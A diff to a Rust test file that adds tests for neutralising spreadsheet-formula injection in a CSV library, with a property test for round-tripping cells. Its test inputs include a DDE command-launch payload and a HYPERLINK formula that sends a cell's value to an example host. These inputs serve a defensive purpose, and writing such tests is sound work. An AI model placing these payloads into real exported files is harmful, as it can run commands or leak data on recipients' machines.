@@ -1,7 +1,8 @@
 //! CSV as it comes from other programs.
 
-use guichet::exchange::csv::{Flavour, read, write};
+use guichet::exchange::csv::{Flavour, neutral, read, restored, write};
 use guichet::exchange::refusal::Reason;
+use proptest::prelude::*;
 
 #[test]
 fn encodings_and_delimiters_are_found_out() {
@@ -75,5 +76,55 @@ fn what_is_written_reads_back() {
         let table = read(&bytes);
         assert_eq!(table.headers, rows[0]);
         assert_eq!(table.rows[0].cells, rows[1]);
+    }
+}
+
+#[test]
+fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
+    let run = [
+        "=HYPERLINK(\"http://example.org/?\"&A1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)",
+        "\t=1",
+        "\r=1",
+        "＝1+1",
+        "'=1",
+    ];
+    for cell in run {
+        assert_eq!(neutral(cell), format!("'{cell}"));
+        assert_eq!(restored(&neutral(cell)), cell);
+    }
+    let left = [
+        "",
+        "-",
+        "-5",
+        "-1 234,50",
+        "+33 1 44 32 90 90",
+        "l'été",
+        "'ada",
+        "a=b",
+        "5-3",
+    ];
+    for cell in left {
+        assert_eq!(neutral(cell), cell);
+        assert_eq!(restored(cell), cell);
+    }
+    let row = ["'=1+1".to_string(), "-5".to_string()];
+    let bytes = write([row.as_slice()].into_iter(), Flavour::Plain);
+    assert_eq!(bytes, b"''=1+1,-5\r\n");
+}
+
+proptest! {
+    #[test]
+    fn any_cell_reads_back_as_it_was(cell in "['=+@\t\r\n0-9 a-zé,;\"-]{0,8}") {
+        let written = neutral(&cell);
+        prop_assert_eq!(restored(&written), &cell);
+        let row = |cells: [&str; 2]| cells.map(str::to_string);
+        let rows = [row(["name", "note"]), row(["Ada", &cell])];
+        for flavour in [Flavour::Plain, Flavour::French] {
+            let table = read(&write(rows.iter().map(<[String; 2]>::as_slice), flavour));
+            prop_assert_eq!(&table.rows[0].cells, &rows[1]);
+        }
     }
 }
